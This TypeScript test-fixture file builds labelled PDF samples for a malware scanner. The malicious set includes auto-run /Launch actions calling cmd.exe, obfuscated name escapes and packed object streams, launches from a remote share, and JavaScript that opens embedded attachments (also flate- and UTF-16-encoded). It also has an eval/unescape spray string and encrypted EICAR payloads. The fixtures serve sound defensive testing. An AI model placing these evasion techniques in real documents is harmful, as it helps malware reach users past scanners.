import { deflateSync } from 'node:zlib';
import { docx, eicar, pdf, zip } from '../../scanners/samples';
import { encryptedPdf } from '../../scanners/pdf-encrypt';
import type { Sample, SampleMaker } from '../sample';

/** An object with a stream. */
export function stream(number: number, dictionary: string, body: Buffer): Buffer {
  const head = `${number} 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), body, Buffer.from('\nendstream\nendobj\n')]);
}

/** A document whose object 9 is an action that runs on opening. */
export function onOpen(action: string, ...more: Buffer[]): Buffer {
  return pdf(`8 0 obj\n<< /Type /Catalog /OpenAction 9 0 R >>\nendobj\n9 0 obj\n<< ${action} >>\nendobj\n`, ...more);
}

const script = (text: string): string => `/S /JavaScript /JS (${text.replace(/[()\\]/g, '\\$&')})`;
const attached = (name: string, data: Buffer): Buffer =>
  pdf(
    `8 0 obj\n<< /Type /Filespec /F (${name}) /EF << /F 9 0 R >> >>\nendobj\n`,
    stream(9, '/Type /EmbeddedFile', data),
  );
const flate = (data: Buffer | string): Buffer => deflateSync(data);
/** Objects packed into a stream, so that nothing of them stands legibly in the file. */
const packedObjects = (...objects: string[]): Buffer => {
  let offset = 0;
  const numbers = objects.map((text, index) => {
    const pair = `${index + 20} ${offset}`;
    offset += text.length + 1;
    return pair;
  });
  const head = `${numbers.join(' ')} `;
  return stream(
    7,
    `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode`,
    flate(head + objects.join(' ')),
  );
};

const malicious = (): [string, Buffer][] => [
  ['a file', attached('note.txt', eicar())],
  ['a zip', attached('note.zip', zip([{ name: 'note.txt', data: eicar() }]))],
  ['a program by name', attached('run.exe', Buffer.from('text'))],
  ['a program by content', attached('run.dat', Buffer.from('MZ\x90\0\x03', 'latin1'))],
  ['a launch action', onOpen('/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>')],
  ['a launch action in names with #', onOpen('/#53 /L#61unch /F (cmd.exe)')],
  ['a launch action in an object stream', pdf(packedObjects('<< /S /Launch /F (calc.exe) >>'))],
  ['a launch from a share', onOpen('/S /Launch /F (\\\\\\\\203.0.113.9\\\\s\\\\a.pdf)')],
  ['a script that opens its attachment', onOpen(script('this.exportDataObject({ cName: "a", nLaunch: 2 });'))],
  [
    'the same in a stream',
    onOpen(
      '/S /JavaScript /JS 10 0 R',
      stream(10, '/Filter /FlateDecode', flate('this.exportDataObject({cName:"a",nLaunch:2})')),
    ),
  ],
  [
    'the same in UTF-16',
    onOpen(
      `/S /JavaScript /JS <feff${Buffer.from('this.exportDataObject({cName:"a",nLaunch:2})', 'utf16le').swap16().toString('hex')}>`,
    ),
  ],
  ['a script of hidden code', onOpen(script('var s = unescape("%u9090%u9090%u4141%u4242"); eval(s);'))],
  ['a script that opens an address', onOpen(script('app.launchURL("https://a.example/x", true);'))],
  ['a remote document on a share', onOpen('/S /GoToR /F (\\\\\\\\203.0.113.9\\\\s\\\\a.pdf) /D [0 /Fit]')],
  ['a file, RC4 of 40 bits', encryptedPdf(2, '', eicar())],
  ['a file, RC4 of 128 bits', encryptedPdf(3, '', eicar())],
  ['a file, AES of 128 bits', encryptedPdf(4, '', eicar())],
  ['a file, AES of 256 bits', encryptedPdf(5, '', eicar())],
  ['an encrypted script', encryptedPdf(4, '', Buffer.from('text'), 'this.exportDataObject({cName:"a",nLaunch:2})')],
];

const harmless = (): [string, Buffer][] => [
  [
    'a form with scripts',
    pdf(
      `8 0 obj\n<< /AA << /F << ${script('AFNumber_Format(2, 0, 0, 0, "", true);')} >> >> >>\nendobj\n9 0 obj\n<< /S /SubmitForm /F (https://example.com/form) >>\nendobj\n`,
    ),
  ],
  ['links', pdf('8 0 obj\n<< /Type /Annot /A << /S /URI /URI (https://example.com/) >> >>\nendobj\n')],
  ['a link to another document on the disk', pdf('8 0 obj\n<< /S /Launch /F (chapter2.pdf) >>\nendobj\n')],
  ['an attached document', attached('letter.docx', docx('Dear support'))],
  ['one that only forbids printing, RC4', encryptedPdf(3, '', Buffer.from('text'))],
  ['one that only forbids printing, AES', encryptedPdf(4, '', Buffer.from('text'))],
  ['one that only forbids printing, AES of 256 bits', encryptedPdf(5, '', Buffer.from('text'))],
  ['an opening page', onOpen('/S /GoTo /D [3 0 R /Fit]')],
];

/** Files, scripts, actions and encryption of PDF, and harmless look-alikes. */
export const samples: SampleMaker = () => {
  const named = (expect: Sample['expect'], list: [string, Buffer][]): Sample[] =>
    list.map(([title, bytes]) => ({ kind: 'pdf', name: `${title}.pdf`, bytes, expect }));
  return [
    ...named('malicious', malicious()),
    ...named('suspicious', [['an address on opening', onOpen('/S /URI /URI (https://a.example/x)')]]),
    ...named('unscannable', [
      ['a password nobody knows, RC4', encryptedPdf(3, 'nobody knows', Buffer.from('text'))],
      ['a password nobody knows, AES', encryptedPdf(5, 'nobody knows', Buffer.from('text'))],
    ]),
    ...named('clean', harmless()),
  ];
};
